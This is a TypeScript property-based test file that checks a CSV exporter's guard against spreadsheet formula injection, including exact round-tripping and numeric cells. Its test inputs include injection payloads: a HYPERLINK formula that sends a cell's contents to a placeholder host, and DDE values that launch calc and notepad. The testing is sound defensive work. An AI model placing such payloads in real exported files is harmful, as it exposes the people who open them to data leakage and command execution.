import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { readCsv, writeCsv } from '../../server/src/workbook/csv';
import { guardFormula, looksLikeFormula, unguardFormula } from '../../server/src/workbook/formula-guard';

/** Cases per property: a quick run by default, the full 100,000 when CI asks (FRAGMENT_PROPERTY_RUNS). */
const runs = Number(process.env.FRAGMENT_PROPERTY_RUNS ?? 300);

/** Texts that start as formulas, apostrophes and blanks do, then anything. */
const text = fc.oneof(
  fc.string(),
  fc
    .tuple(fc.constantFrom('', "'", "''", ' ', "' ", "'''  "), fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', "'", ' ', 'a', '1', ''), fc.string())
    .map(([start, first, rest]) => start + first + rest),
);

describe('the formula guard of the CSV files we write (FORMAT.md §6)', () => {
  it('guards what a spreadsheet would run, after leading blanks too', () => {
    assert.equal(guardFormula('=HYPERLINK("http://example.invalid/?"&A1,"Click")'), `'=HYPERLINK("http://example.invalid/?"&A1,"Click")`);
    assert.equal(guardFormula("+cmd|'/C calc'!A0"), "'+cmd|'/C calc'!A0");
    assert.equal(guardFormula(" @SUM(1+9)*cmd|' /C notepad'!A1"), "' @SUM(1+9)*cmd|' /C notepad'!A1");
    for (const start of ['-', '\t', '\r', '\n', '   =']) assert.equal(guardFormula(`${start}1+1`), `'${start}1+1`);
    for (const plain of ['Outcome', '2024', 'a = b', '', "'tis", "'", 'x-1']) assert.equal(guardFormula(plain), plain);
  });

  it("guards a text that truly starts with ' before a formula, so that it comes back as it was", () => {
    assert.equal(guardFormula("'=1+1"), "''=1+1");
    assert.equal(unguardFormula("''=1+1"), "'=1+1");
    assert.equal(unguardFormula("'=1+1"), '=1+1');
    assert.equal(unguardFormula("'tis"), "'tis", "a ' before anything else is the text's own");
  });

  it('comes back exactly, and never writes what looks like a formula (fast-check)', () => {
    fc.assert(
      fc.property(text, (value) => {
        const written = guardFormula(value);
        assert.equal(unguardFormula(written), value);
        assert.equal(looksLikeFormula(written), false, JSON.stringify(written));
      }),
      { numRuns: runs },
    );
  });

  it('writes CSV an outside reader finds no formula in, and reads it back to the same cells; numbers stay numbers', () => {
    fc.assert(
      fc.property(fc.array(fc.array(fc.oneof(text, fc.integer({ min: -5000, max: 5000 }), fc.constant(null)), { maxLength: 5 }), { maxLength: 5 }), (rows) => {
        const bytes = writeCsv({ name: 'harvest', rows });
        const outside: string[][] = parse(new TextDecoder().decode(bytes).replace(/^\uFEFF/, ''), { relax_column_count: true });
        for (const [rowIndex, row] of outside.entries())
          for (const [column, cell] of row.entries()) {
            const original = rows[rowIndex]?.[column];
            if (typeof original === 'number') assert.equal(cell, String(original), 'a number is written as a number (-3, not a guarded text)');
            else assert.equal(looksLikeFormula(cell), false, JSON.stringify(cell));
          }
        const back = readCsv(bytes, 'harvest').rows;
        const same = (cell: string | number | null | undefined) =>
          cell === null || cell === undefined || cell === '' ? null : String(cell).replace(/\r\n/g, '\n');
        for (const [rowIndex, row] of rows.entries())
          for (const [column, cell] of row.entries()) assert.equal(same(back[rowIndex]?.[column] as string | null), same(cell), `${rowIndex}:${column}`);
      }),
      { numRuns: Math.min(runs, 2000) },
    );
  });
});
